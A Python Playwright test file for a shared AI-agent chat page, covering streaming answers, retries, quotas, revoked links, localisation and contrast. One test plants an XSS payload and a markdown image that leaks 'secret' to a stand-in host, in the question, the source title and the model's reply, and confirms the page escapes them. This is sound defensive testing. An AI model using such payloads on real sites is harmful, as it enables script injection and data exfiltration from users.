"""The page of a share in a real browser."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect
from tests.conversations.sharing import (
    QUESTION,
    add_agent,
    add_library,
    add_share,
    held,
    serving_fake,
)
from tests.fakes.openai_server import FakeOpenAI, failure, streamed
from tests.inprocess import InProcessServer, Tenant

WAIT_MS = 60_000
BEGINNING = "The warranty"
ANSWER = "The warranty lasts two years [1]."
MARKUP = "<img src=x onerror=\"document.title='led astray'\"> ![see](http://192.0.2.1/?q=secret)"
PIECES = ("The warranty", " lasts two", " years [", "1].")

expect.set_options(timeout=WAIT_MS)


@pytest.fixture(scope="module")
def fake() -> Iterator[FakeOpenAI]:
    with FakeOpenAI().running() as server:
        yield server


@pytest.fixture(scope="module")
def server(
    fake: FakeOpenAI, tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest
) -> Iterator[InProcessServer]:
    """A server whose model is the fake."""
    with serving_fake(
        tmp_path_factory.mktemp("page"), fake, lambda: request.getfixturevalue("postgres")
    ) as running:
        yield running


@pytest.fixture(scope="module")
def tenant(server: InProcessServer) -> Iterator[Tenant]:
    with server.tenant() as owner:
        # Between two uses the server would close the connection.
        owner.http.headers["Connection"] = "close"
        yield owner


@pytest.fixture(scope="module")
def project(tenant: Tenant) -> str:
    return add_library(tenant)


@dataclass
class Visit:
    """An open page, what it asked for, and what it had to complain of."""

    page: Page
    share: dict[str, Any]
    urls: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)

    def ask(self, question: str = QUESTION) -> None:
        """Type a question and send it by the keyboard alone."""
        self.page.get_by_label("Your question").fill(question)
        self.page.keyboard.press("Enter")

    @property
    def answer(self) -> Any:
        """The latest answer."""
        return self.page.locator("article.answer").last


Visiting = Callable[..., Any]


@pytest.fixture
def visiting(server: InProcessServer, tenant: Tenant, project: str, browser: Browser) -> Visiting:
    """Open the page of a new share; `limits` are the share's, the rest the browser's."""

    @contextmanager
    def opened(
        limits: dict[str, Any] | None = None, project: str = project, **options: Any
    ) -> Iterator[Visit]:
        agent = add_agent(tenant, project, description="Knows kettles.")
        share = add_share(tenant, agent, **(limits or {}))
        with browser.new_context(**{"locale": "en-GB", **options}) as context:
            visit = Visit(context.new_page(), share)
            visit.page.set_default_timeout(WAIT_MS)
            visit.page.on("request", lambda request: visit.urls.append(request.url))
            visit.page.on("pageerror", lambda error: visit.complaints.append(str(error)))
            visit.page.on("console", lambda told: visit.complaints.append(told.text))
            visit.page.goto(server.url + share["path"])
            yield visit

    return opened


def test_an_answer_streams_in_with_its_source(visiting: Visiting, fake: FakeOpenAI) -> None:
    """Its beginning is there before its end, then title, page and words of the source."""
    with visiting() as visit, held(fake, at=_beginning()) as let_go:
        visit.ask()
        expect(visit.answer.locator(".words")).to_have_text(BEGINNING)
        expect(visit.answer.locator(".words")).to_have_attribute("aria-busy", "true")
        let_go.set()
        expect(visit.answer.locator(".words")).to_have_text(ANSWER)
        expect(visit.answer.locator(".words")).to_have_attribute("aria-busy", "false")
        expect(visit.answer.locator("cite")).to_have_text("[1] Kettle, page 1")
        expect(visit.answer.locator("blockquote")).to_contain_text("two years")
        expect(visit.page.get_by_role("heading", level=1)).to_have_text("Kettle's agent")

        assert [] == visit.complaints


def test_a_reload_goes_on_with_the_answer(visiting: Visiting, fake: FakeOpenAI) -> None:
    """In the middle of an answer, the conversation is shown again and the answer completed."""
    with visiting() as visit, held(fake, at=_beginning()) as let_go:
        visit.ask()
        expect(visit.answer.locator(".words")).to_have_text(BEGINNING)
        visit.page.reload()
        expect(visit.page.locator("article.question")).to_contain_text(QUESTION)
        expect(visit.answer.locator(".words")).to_have_text(BEGINNING)
        let_go.set()
        expect(visit.answer.locator(".words")).to_have_text(ANSWER)
        visit.page.reload()
        expect(visit.answer.locator(".words")).to_have_text(ANSWER)
        expect(visit.answer.locator("cite")).to_have_text("[1] Kettle, page 1")

        assert [] == visit.complaints


def test_a_provider_that_dies_is_told_of_and_tried_again(
    visiting: Visiting, fake: FakeOpenAI
) -> None:
    """What was written before the failure gives way to the second answer."""
    cut = replace(streamed(*PIECES), sent=_beginning())
    with visiting() as visit:
        fake.replies += [cut] * 3
        visit.ask()
        expect(visit.answer.locator(".problem")).to_have_text(
            "The model did not answer. Try again in a moment."
        )
        visit.answer.get_by_role("button", name="Try again").click()
        expect(visit.answer.locator(".words")).to_have_text(ANSWER)
        expect(visit.answer.locator(".problem")).to_have_count(0)


def test_an_answer_that_failed_is_tried_again_after_a_reload(
    visiting: Visiting, fake: FakeOpenAI
) -> None:
    """The failure is shown again, with its button."""
    with visiting() as visit:
        fake.replies.append(failure(401))
        visit.ask()
        expect(visit.answer.locator(".problem")).to_have_text("The model refused to answer.")
        visit.page.reload()
        visit.answer.get_by_role("button", name="Try again").click()
        expect(visit.answer.locator(".words")).to_have_text(ANSWER)


def test_an_answer_is_stopped(visiting: Visiting, fake: FakeOpenAI) -> None:
    """It ends as stopped, and can be asked for again."""
    with visiting() as visit, held(fake, at=_beginning()):
        visit.ask()
        expect(visit.answer.locator(".words")).to_have_text(BEGINNING)
        visit.answer.get_by_role("button", name="Stop").click()
        expect(visit.answer.locator(".problem")).to_have_text("This answer was stopped.")
        visit.answer.get_by_role("button", name="Try again").click()
        expect(visit.answer.locator(".words")).to_have_text(ANSWER)


def test_markup_is_shown_as_words(
    visiting: Visiting, server: InProcessServer, tenant: Tenant, fake: FakeOpenAI
) -> None:
    """Neither question, title, quote nor answer act in the page, and nothing foreign is loaded."""
    library = tenant.project("hostile")
    tenant.ingest_text(library, f"The warranty lasts two years. {MARKUP}", title=MARKUP)
    fake.replies.append(streamed("The warranty lasts two years [1]. ", MARKUP, " <b>Bold</b>"))
    with visiting(project=library) as visit:
        visit.ask(MARKUP)
        expect(visit.answer.locator("cite")).to_have_text(f"[1] {MARKUP}, page 1")
        visit.page.reload()
        expect(visit.answer.locator("cite")).to_have_text(f"[1] {MARKUP}, page 1")
        expect(visit.page.locator("article.question .words")).to_have_text(MARKUP)
        expect(visit.answer.locator(".words")).to_contain_text("The warranty lasts two years [1].")

        assert 0 == visit.page.locator("article img, article b, article script").count()
        assert "Kettle's agent" == visit.page.title()
        assert [] == [url for url in visit.urls if not url.startswith(server.url + "/")]
        assert [] == visit.complaints


def test_a_lost_connection_is_told_of(visiting: Visiting) -> None:
    """The question is kept and sent again, once."""
    with visiting() as visit:
        visit.page.context.set_offline(True)
        visit.ask()
        expect(visit.answer.locator(".problem")).to_contain_text("The server cannot be reached.")
        visit.page.context.set_offline(False)
        visit.answer.get_by_role("button", name="Try again").click()
        expect(visit.answer.locator(".words")).to_have_text(ANSWER)
        visit.page.reload()
        expect(visit.page.locator("article.question")).to_have_count(1)


def test_what_is_left_is_shown(visiting: Visiting) -> None:
    """The last question is answered; the next one hears that nothing is left."""
    with visiting({"most_messages": 1}) as visit:
        expect(visit.page.locator("#left")).to_have_text("Questions left: 1")
        visit.ask()
        expect(visit.answer.locator(".words")).to_have_text(ANSWER)
        expect(visit.page.locator("#left")).to_have_text("Questions left: 0")
        visit.ask()
        expect(visit.answer.locator(".problem")).to_have_text(
            "All answers that this link gives have been used."
        )


def test_a_revoked_link_closes_the_page(
    visiting: Visiting, tenant: Tenant, fake: FakeOpenAI
) -> None:
    """In the middle of an answer the page says so, and takes no more questions."""
    with visiting() as visit, held(fake, at=_beginning()):
        visit.ask()
        expect(visit.answer.locator(".words")).to_have_text(BEGINNING)
        share = visit.share
        tenant.http.delete(f"/v1/agents/{share['agent_id']}/shares/{share['id']}")
        expect(visit.page.get_by_role("alert")).to_contain_text("does not work any more")
        expect(visit.page.get_by_label("Your question")).to_be_hidden()
        visit.page.reload()
        expect(visit.page.get_by_role("heading")).to_have_text("This link opens nothing")


def test_a_new_conversation(visiting: Visiting) -> None:
    """What was said before is gone from the page, after a reload too."""
    with visiting() as visit:
        visit.ask()
        expect(visit.answer.locator(".words")).to_have_text(ANSWER)
        visit.page.get_by_role("button", name="New conversation").click()
        visit.page.reload()
        expect(visit.page.get_by_label("Your question")).to_be_visible()
        expect(visit.page.locator("article")).to_have_count(0)


def test_the_page_speaks_french(visiting: Visiting) -> None:
    """To a browser that does."""
    with visiting(locale="fr-CA") as visit:
        visit.page.get_by_label("Votre question").fill(QUESTION)
        visit.page.get_by_role("button", name="Demander").click()
        expect(visit.answer.locator(".words")).to_have_text(ANSWER)
        expect(visit.answer.locator("cite")).to_have_text("[1] Kettle, page 1")
        expect(visit.page.locator("html")).to_have_attribute("lang", "fr")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_page_is_readable_on_a_small_screen(visiting: Visiting, scheme: str) -> None:
    """At 360 pixels nothing runs over the edge, and all words stand out from their ground."""
    with visiting(color_scheme=scheme, viewport={"width": 360, "height": 640}) as visit:
        visit.ask("Unbreakable" * 20)
        expect(visit.answer.locator(".words")).to_have_text(ANSWER)

        assert 360 >= visit.page.evaluate("document.documentElement.scrollWidth")
        words = "body, h2, .words, cite, blockquote, label, #hint, #caution, button:enabled"
        for element in visit.page.locator(words).all():
            color, ground = element.evaluate(_COLORS)
            assert _contrast(color, ground) >= 4.5


_COLORS = """element => {
    const clear = "rgba(0, 0, 0, 0)";
    let ground = element;
    while (getComputedStyle(ground).backgroundColor === clear) ground = ground.parentElement;
    return [getComputedStyle(element).color, getComputedStyle(ground).backgroundColor];
}"""


def _contrast(one: str, other: str) -> float:
    """Return the contrast of two colours: https://www.w3.org/TR/WCAG22/#dfn-contrast-ratio."""
    darker, lighter = sorted(map(_luminance, (one, other)))
    return (lighter + 0.05) / (darker + 0.05)


def _luminance(color: str) -> float:
    parts = [int(part) / 255 for part in re.findall(r"\d+", color)[:3]]
    red, green, blue = (p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def _beginning() -> int:
    """Return how many bytes of the fake's reply hold the first piece alone."""
    body = streamed(*PIECES).body
    return body.index(b"data: ", body.index(b"The warranty"))
